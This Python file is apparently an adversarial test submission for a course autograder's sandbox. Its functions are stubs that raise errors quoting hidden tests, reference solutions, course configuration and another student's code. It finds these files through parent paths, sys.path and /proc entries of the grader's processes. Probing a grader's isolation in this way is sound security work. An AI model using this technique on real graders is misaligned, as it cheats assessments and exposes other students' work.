"""Attack: read the hidden tests, the reference, course.yml and another student's code,
and put them in exception messages so they land in the feedback.

Tries: every route to the course tree (this file's parents, grader.__file__, sys.path,
ancestors' working directories); each function raises a ValueError quoting one of them.
Would gain: the hidden tests and the reference, delivered in the student's own feedback.
Must stop it: the worker can read none of these files.
"""

import os
import sys
from pathlib import Path


def _parent(pid: int) -> int:
    """The parent of ``pid`` from /proc (0 if it cannot be read)."""
    try:
        line = open(f"/proc/{pid}/stat").read()
    except OSError:
        return 0
    return int(line.rsplit(")", 1)[1].split()[1])  # the field after the command's name


def _ancestors() -> list[int]:
    """This process's Python ancestors (the grader's processes), parent first."""
    pids, pid = [], _parent(os.getpid())
    while pid > 1:
        try:
            if b"python" not in open(f"/proc/{pid}/cmdline", "rb").read():
                break
        except OSError:
            break
        pids.append(pid)
        pid = _parent(pid)
    return pids


def _roots():
    yield from Path(__file__).resolve().parents
    try:
        import grader

        yield Path(grader.__file__).resolve().parents[1]
    except (ImportError, IndexError):
        pass
    yield from (Path(entry or ".") for entry in sys.path)
    yield from (Path(f"/proc/{pid}/cwd") for pid in _ancestors())


def _read(relative: str) -> str:
    """The first readable copy of a course file, by any route a submission has."""
    for root in _roots():
        try:
            return (root / relative).read_text()
        except OSError:
            continue
    return ""


def _quote(text: str, code_only: bool = True) -> str:
    """Lines a reader would recognise: code lines of 30 characters or more."""
    lines = [line.strip() for line in text.splitlines() if len(line.strip()) >= 30]
    if code_only:
        lines = [line for line in lines if line.startswith(("assert", "return", "got", "expected"))
                 or " = " in line or "submission." in line]
    return "\n".join(lines)[:1900]


def softmax(O):
    raise ValueError("hidden tests:\n" + _quote(_read("tests/hidden/test_softmax_props.py")))


def cross_entropy(y_hat, y):
    raise ValueError("reference:\n" + _quote(_read("solutions/softmax.py")))


def softmax_cross_entropy(O, y):
    raise ValueError("course.yml:\n" + _quote(_read("course.yml"), code_only=False))


def softmax_cross_entropy_grad(O, y):
    raise ValueError("ada:\n" + _quote(_read("examples/class/ada/softmax.py")))


def accuracy(y_hat, y):
    raise ValueError("hidden tests of another topic:\n" + _quote(_read("tests/hidden/test_norms_props.py")))
